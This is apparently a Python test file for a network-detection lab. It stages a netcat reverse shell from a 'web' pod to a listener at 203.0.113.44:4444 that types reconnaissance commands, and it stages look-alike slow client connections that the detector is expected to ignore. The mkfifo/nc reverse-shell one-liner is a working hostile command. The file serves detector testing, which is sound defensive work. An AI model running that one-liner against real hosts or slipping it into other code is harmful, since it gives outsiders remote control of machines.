"""A shell that calls out and is typed into from outside, and clients whose long connections only look like it."""

from __future__ import annotations

from tests.lab import pods
from tests.lab.stage import Case, Stage, finish

CAST = ("web", "api", "client1")
LISTENER = "203.0.113.44"
PORT = 4444
TYPED = ("id", "uname -a", "ls /etc", "cat /etc/hostname", "echo done", "exit")
PAUSE = 4  # s between two commands, as a person reads what came


def _typed(stage: Stage) -> None:
    lines = "; ".join(f"sleep {PAUSE}; echo {line}" for line in TYPED)
    listener = stage.begin(pods.OUTSIDE, ["sh", "-c", f"({lines}; sleep {PAUSE}) | nc -N -l -s {LISTENER} -p {PORT}"])
    stage.listening(listener, PORT, udp=False)
    back = f"rm -f $0; mkfifo $0; nc -N {LISTENER} {PORT} < $0 | sh > $0 2>&1; rm -f $0"
    with stage.attack("reverse_shell", "web", LISTENER, port=PORT):
        shell = stage.begin("web", ["sh", "-c", back, "/dev/shm/sluicelab-shell"])
        listener.wait(90)
        shell.wait(10)


def _clients(stage: Stage) -> None:
    stage.server("api", "query 5432 7777")
    stage.server(pods.OUTSIDE, "query 7777")
    api = pods.BY_NAME["api"].ip4
    finish(
        stage.client("web", f"query --to {api} --port 5432 --rate 0.4 --seed 3 --seconds 75"),
        stage.client("client1", f"query --to {api} --port 7777 --rate 0.3 --seed 4 --seconds 75"),
        stage.client("web", f"query --to {LISTENER} --port 7777 --rate 0.3 --seed 5 --seconds 75"),
    )
    stage.silence("reverse_shell", note="long connections with pauses whose client asks first, to odd ports too")


CASES = (
    Case("reverse_shell", "typed_slowly", "A shell of netcat calls a listener outside and is typed into", _typed, CAST),
    Case("reverse_shell", "query_clients", "Clients with long, mostly quiet connections", _clients, CAST),
)
